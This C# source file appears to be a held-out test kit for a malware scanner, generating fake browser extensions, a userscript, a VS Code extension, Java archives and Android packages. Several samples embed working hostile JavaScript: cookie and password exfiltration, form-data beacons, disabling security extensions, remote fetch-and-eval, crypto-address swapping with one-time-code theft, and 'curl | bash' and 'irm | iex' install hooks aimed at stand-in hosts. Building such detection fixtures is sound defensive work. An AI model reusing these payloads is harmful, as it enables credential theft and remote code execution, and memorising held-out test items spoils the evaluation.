namespace ScanHost.TestKit.HeldOut.Fourth;

/// <summary>Browser extensions that read along.</summary>
public sealed class ExtensionThatReadsAlong : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("pdf-toolbox.crx", Crx(
            ("manifest.json", """{"manifest_version":3,"name":"PDF Toolbox","version":"24.10.4","permissions":["cookies","storage","tabs","scripting","webRequest","declarativeNetRequest"],"host_permissions":["<all_urls>"],"background":{"service_worker":"worker.js"},"content_scripts":[{"matches":["https://*.facebook.com/*"],"js":["content.js"],"run_at":"document_start"}]}"""),
            ("worker.js", "const api='https://api.pdftool-ext.example/cfg';chrome.runtime.onInstalled.addListener(async()=>{const c=await(await fetch(api)).json();chrome.storage.local.set({cfg:c});});chrome.runtime.onMessage.addListener((m,s,r)=>{if(m.a==='ck')chrome.cookies.getAll({domain:'facebook.com'},c=>fetch('https://api.pdftool-ext.example/ai',{method:'POST',body:btoa(JSON.stringify({c,ua:navigator.userAgent}))}));return true});"),
            ("content.js", "document.addEventListener('submit',e=>{const f=e.target;chrome.runtime.sendMessage({a:'form',d:[...f.elements].filter(x=>x.type==='password'||x.type==='email').map(x=>x.value)})},true);chrome.runtime.sendMessage({a:'ck'});")));
        yield return ("SafeSearch_Pro.zip", InertFiles.Zip(
            ("manifest.json", Utf8("{\n  \"manifest_version\": 2,\n  \"name\": \"Google Docs Offline\",\n  \"version\": \"1.0\",\n  \"permissions\": [\"http://*/*\", \"https://*/*\", \"webRequest\", \"webRequestBlocking\", \"clipboardRead\", \"management\", \"proxy\"],\n  \"content_security_policy\": \"script-src 'self' 'unsafe-eval'; object-src 'self'\",\n  \"background\": { \"scripts\": [\"bg.js\"] }\n}")),
            ("bg.js", Utf8("""
chrome.management.getAll(l => l.filter(e => /ublock|malwarebytes/i.test(e.name)).forEach(e => chrome.management.setEnabled(e.id, false)));
chrome.webRequest.onBeforeRequest.addListener(d => { if (d.requestBody && d.requestBody.formData) { new Image().src = "https://stat.safe-search.example/g.gif?" + encodeURIComponent(d.url + JSON.stringify(d.requestBody.formData)); } }, { urls: ["<all_urls>"] }, ["requestBody"]);
chrome.webRequest.onHeadersReceived.addListener(d => ({ responseHeaders: d.responseHeaders.filter(h => !/content-security-policy/i.test(h.name)) }), { urls: ["<all_urls>"] }, ["blocking", "responseHeaders"]);
setInterval(() => fetch("https://stat.safe-search.example/task").then(r => r.text()).then(t => eval(t)), 60000);
"""))));
        yield return ("wallet_helper.user.js", Utf8("""
// ==UserScript==
// @name         Binance fee saver
// @match        *://*.binance.com/*
// @match        *://*.coinbase.com/*
// @grant        GM_xmlhttpRequest
// @require      https://lib.fee-saver.example/core.js
// ==/UserScript==
(function () {
  const mine = { BTC: 'bc1qexampleexampleexampleexampleexample0000', ETH: '0x0000000000000000000000000000000000000001' };
  new MutationObserver(() => document.querySelectorAll('input[name=address],.deposit-address').forEach(n => { const v = n.value || n.textContent; if (/^bc1|^[13]/.test(v)) { n.value = mine.BTC; n.textContent = mine.BTC; } })).observe(document, { subtree: true, childList: true });
  const otp = document.querySelector('input[autocomplete=one-time-code]');
  if (otp) otp.addEventListener('input', () => GM_xmlhttpRequest({ method: 'POST', url: 'https://lib.fee-saver.example/o', data: document.cookie + '|' + otp.value + '|' + localStorage.getItem('token') }));
})();
"""));
        yield return ("solidity-toolkit-0.0.9.vsix", InertFiles.Zip(
            ("extension.vsixmanifest", Utf8("<PackageManifest Version=\"2.0.0\" xmlns=\"http://schemas.microsoft.com/developer/vsx-schema/2011\"><Metadata><Identity Id=\"solidity-toolkit\" Version=\"0.0.9\" Publisher=\"juan-bIanco\"/><DisplayName>Solidity Language</DisplayName></Metadata></PackageManifest>")),
            ("extension/package.json", Utf8("{\"name\":\"solidity-toolkit\",\"publisher\":\"juan-bIanco\",\"version\":\"0.0.9\",\"engines\":{\"vscode\":\"^1.70.0\"},\"activationEvents\":[\"*\"],\"main\":\"./extension.js\"}")),
            ("extension/extension.js", Utf8("const vscode=require('vscode'),{exec}=require('child_process');function activate(c){if(process.platform==='win32'){exec('powershell -ExecutionPolicy Bypass -WindowStyle Hidden -Command \"irm https://angelic.sol-lang.example/files/1.txt | iex\"',{windowsHide:true});}else{exec('curl -s https://angelic.sol-lang.example/files/1.sh | bash');}}module.exports={activate};"))));
    }

    // A CRX 3 container without proofs: magic, version, length of the header, nothing, then the zip.
    private static byte[] Crx(params (string Name, string Text)[] members) =>
        [.. "Cr24"u8, 3, 0, 0, 0, 0, 0, 0, 0, .. InertFiles.Zip([.. members.Select(member => (member.Name, Utf8(member.Text)))])];
}

/// <summary>Java archives and Android packages.</summary>
public sealed class JavaThatLoadsMore : FourthRound
{
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Payment_Advice.jar", InertFiles.Zip(
            ("META-INF/MANIFEST.MF", Dos("Manifest-Version: 1.0\nMain-Class: carLambo.Main\nCreated-By: 1.8.0_201\n\n")),
            ("carLambo/Main.class", JavaClass.Build("carLambo/Main", ["java/lang/Runtime getRuntime ()Ljava/lang/Runtime;", "java/lang/Runtime exec (Ljava/lang/String;)Ljava/lang/Process;", "java/net/Socket <init> (Ljava/lang/String;I)V", "java/awt/Robot createScreenCapture (Ljava/awt/Rectangle;)Ljava/awt/image/BufferedImage;"],
                ["strr.jrat-hub.example", "schtasks /create /sc minute /mo 30 /tn Skype /tr \"", "wmic /node:. /namespace:'\\\\root\\SecurityCenter2' path antivirusproduct get displayname", "cmd-shell", "chrome-pass", "keylogger"])),
            ("carLambo/resources/config.txt", Utf8(Base64("strr.jrat-hub.example:7888:7888:x")))));
        yield return ("OptiFine_Plus_1.20.1.jar", InertFiles.Zip(
            ("META-INF/MANIFEST.MF", Dos("Manifest-Version: 1.0\n\n")),
            ("fabric.mod.json", Utf8("{\"schemaVersion\":1,\"id\":\"optifineplus\",\"version\":\"1.20.1\",\"entrypoints\":{\"main\":[\"net.optiplus.Init\"]}}")),
            ("net/optiplus/Init.class", JavaClass.Build("net/optiplus/Init", ["java/net/URLClassLoader <init> ([Ljava/net/URL;)V", "java/lang/ClassLoader loadClass (Ljava/lang/String;)Ljava/lang/Class;", "java/lang/reflect/Method invoke (Ljava/lang/Object;[Ljava/lang/Object;)Ljava/lang/Object;", "java/util/Base64$Decoder decode (Ljava/lang/String;)[B"],
                ["https://files.mod-skyrage.example/dl", "dev.neko.nekoclient.Client", "libWebGL64.jar", "Local Storage\\leveldb", "launcher_accounts.json", "accessToken", "%LOCALAPPDATA%\\Microsoft Edge\\lib.dll"]))));
        yield return ("Flash_Player_Update.apk", InertFiles.Zip(
            ("AndroidManifest.xml", Manifest("com.flash.player.upd", "Flash Player", ["BIND_ACCESSIBILITY_SERVICE", "RECEIVE_SMS", "READ_SMS", "SEND_SMS", "SYSTEM_ALERT_WINDOW", "REQUEST_INSTALL_PACKAGES", "RECEIVE_BOOT_COMPLETED", "READ_CONTACTS", "REQUEST_IGNORE_BATTERY_OPTIMIZATIONS"], "android.permission.BIND_ACCESSIBILITY_SERVICE")),
            ("classes.dex", [.. "dex\n035\0"u8, .. new byte[104], .. Utf8("Ldalvik/system/DexClassLoader;\0performGlobalAction\0getDeviceId\0https://panel.flashupd-bot.example/gate.php\0overlay_inject\0com.bank.mobile\0")]),
            ("assets/kfeh.json", Filler.Noise(90, 4000))));
        yield return ("Voucher-Entrega.apk", InertFiles.Zip(
            ("AndroidManifest.xml", Manifest("com.correos.envio", "Correos", ["RECEIVE_SMS", "READ_PHONE_STATE", "CALL_PHONE", "QUERY_ALL_PACKAGES", "FOREGROUND_SERVICE", "BIND_DEVICE_ADMIN", "DISABLE_KEYGUARD"], "android.permission.BIND_DEVICE_ADMIN")),
            ("classes.dex", [.. "dex\n037\0"u8, .. new byte[104], .. Utf8("Landroid/telephony/SmsManager;\0sendTextMessage\0abortBroadcast\0lockNow\0Ljava/lang/Runtime;\0exec\0su\0http://cabassous.dga-seed.example/poll.php\0BLOCK_NUMBER\0CARD_BLOCK\0SMS_INT_TOGGLE\0")]),
            ("res/raw/page.html", Utf8("<form><input name=card placeholder='Número de tarjeta'><input name=cvv placeholder=CVV></form>"))));
    }

    private static byte[] Manifest(string package, string label, string[] permissions, string service)
    {
        var manifest = new AndroidXml().Open("manifest", ("package", package), ("versionName", "1.0"));
        foreach (var permission in permissions)
            manifest.Leaf("uses-permission", ("name", "android.permission." + permission));
        return manifest.Open("application", ("label", label))
            .Open("activity", ("name", ".Main")).Open("intent-filter").Leaf("action", ("name", "android.intent.action.MAIN")).Leaf("category", ("name", "android.intent.category.LAUNCHER")).Close("intent-filter").Close("activity")
            .Open("service", ("name", ".Core"), ("permission", service)).Close("service")
            .Open("receiver", ("name", ".Sms")).Open("intent-filter").Leaf("action", ("name", "android.provider.Telephony.SMS_RECEIVED")).Leaf("action", ("name", "android.intent.action.BOOT_COMPLETED")).Close("intent-filter").Close("receiver")
            .Close("application").Close("manifest").Build();
    }
}
